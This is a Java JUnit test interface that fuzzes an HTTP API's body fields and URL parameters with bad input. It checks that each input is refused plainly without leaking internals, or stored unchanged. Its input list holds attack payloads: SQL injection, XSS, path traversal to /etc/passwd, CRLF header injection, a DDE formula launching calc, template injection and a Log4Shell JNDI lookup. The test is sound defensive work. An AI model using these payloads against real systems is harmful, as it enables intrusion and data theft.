package dev.latchkey.http.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.common.collect.ImmutableList;
import dev.latchkey.application.Store;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Every text of every body, and every parameter of every address, gets what breaks programs: it is refused plainly or kept
 * as it was sent, and nothing is stored half. A test class implements it for its store.
 */
public interface HttpBadInput {
    /** Sent as these characters and no others, whatever JSON libraries make of them. */
    ImmutableList<String> NASTY = ImmutableList.of(
            "a\0b",
            "\ud800",
            "x".repeat(1_000_000),
            "y".repeat(50_000),
            "\u202Egnp.exe",
            "=HYPERLINK(\"http://x.example\",\"y\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "Robert'); DROP TABLE account;--",
            "' OR '1'='1",
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "../../../../etc/passwd",
            "..\\..\\windows\\system32",
            "%2e%2e%2f%00",
            "a\r\nSet-Cookie: x=y",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}#{7*7}",
            "\uFFFE\uFFFF\uFEFF",
            "e\u0301\u0301 \uD83D\uDC69\u200D\uD83D\uDE80",
            " ",
            "");

    Pattern INSIDES = Pattern.compile(
            "Exception|java\\.|dev\\.latchkey|at \\w+\\.\\w+\\(|jetty|javalin|jackson|SQL|h2|postgres",
            Pattern.CASE_INSENSITIVE);

    String PLACE = "@place@";

    /** An empty store. */
    Store store();

    @Test
    default void every_text_of_every_body_is_refused_plainly_or_kept_as_it_was_sent() {
        Store store = store();
        try (Running running = Running.over(store)) {
            BadInputWorld world = BadInputWorld.over(running, store);
            for (Operation operation : Operation.withBody()) {
                for (String pointer : operation.texts()) {
                    for (String nasty : NASTY) {
                        world.next(operation);
                        requirePlain(world, operation, pointer, nasty);
                    }
                }
            }
        }
    }

    @Test
    default void every_parameter_and_every_part_of_an_address_is_refused_plainly_or_understood() {
        Store store = store();
        try (Running running = Running.over(store)) {
            BadInputWorld world = BadInputWorld.over(running, store);
            for (Operation operation : Operation.all()) {
                for (String nasty : NASTY) {
                    if (nasty.length() > 1_000 || nasty.equals("\ud800")) {
                        continue;
                    }
                    String encoded = URLEncoder.encode(nasty, StandardCharsets.UTF_8);
                    for (String parameter : operation.parameters()) {
                        world.next(operation);
                        String path = operation.address(world.account(), "desk") + "?" + parameter + "=" + encoded;
                        requirePlain(world.send(operation, path, ""), operation + " " + path);
                    }
                    if (operation.path().contains("{")) {
                        world.next(operation);
                        String body =
                                operation.takesJson() ? operation.example().toString() : "";
                        requirePlain(
                                world.send(operation, operation.address(encoded, encoded), body), operation + nasty);
                        requirePlain(
                                world.send(operation, operation.address(world.account(), encoded), ""),
                                operation + nasty);
                    }
                }
            }
        }
    }

    private static void requirePlain(BadInputWorld world, Operation operation, String pointer, String nasty) {
        ObjectNode body = world.example(operation);
        put(body, pointer, PLACE);
        String name = "%s %s %.30s".formatted(operation, pointer, nasty);
        JsonNode before = world.ada().get(world.path()).json();

        Reply reply = world.send(
                operation,
                operation.address(world.account(), "desk"),
                body.toString().replace(PLACE, escaped(nasty)));

        requirePlain(reply, name);
        switch (operation.id()) {
            case "signUp" -> world.requireWholeSignUp(body, pointer, nasty, reply, name);
            case "addCode" -> world.requireWholeEntry(pointer, nasty, reply, name);
            case "editPracticeSetup" -> world.requireWholeEdit(pointer, nasty, reply, before, name);
            default -> {
                // what else takes texts stores none of them, or shows none of them again
            }
        }
    }

    private static void requirePlain(Reply reply, String name) {
        assertThat(reply.status()).as("%s: %s", name, reply.text()).isBetween(200, 499);
        if (reply.status() >= 400) {
            assertThat(reply.header("Content-Type")).as(name).isEqualTo("application/problem+json");
            assertThat(INSIDES.matcher(reply.text()).find())
                    .as("%s: %s", name, reply.text())
                    .isFalse();
        }
    }

    private static void put(ObjectNode body, String pointer, String text) {
        String[] names = pointer.substring(1).split("/", -1);
        JsonNode parent = body;
        for (int i = 0; i < names.length - 1; i++) {
            boolean list = names[i + 1].equals("0");
            JsonNode next = parent.get(names[i]);
            if (next == null || next.isNull() || !next.isContainerNode()) {
                next = list ? body.arrayNode() : body.objectNode();
                set(parent, names[i], next);
            }
            parent = next;
        }
        set(parent, names[names.length - 1], body.textNode(text));
    }

    private static void set(JsonNode parent, String name, JsonNode value) {
        if (parent instanceof ArrayNode array) {
            array.removeAll().add(value);
        } else {
            ((ObjectNode) parent).set(name, value);
        }
    }

    private static String escaped(String text) {
        StringBuilder escaped = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            escaped.append(c >= 'a' && c <= 'z' ? Character.toString(c) : "\\u%04x".formatted((int) c));
        }
        return escaped.toString();
    }
}
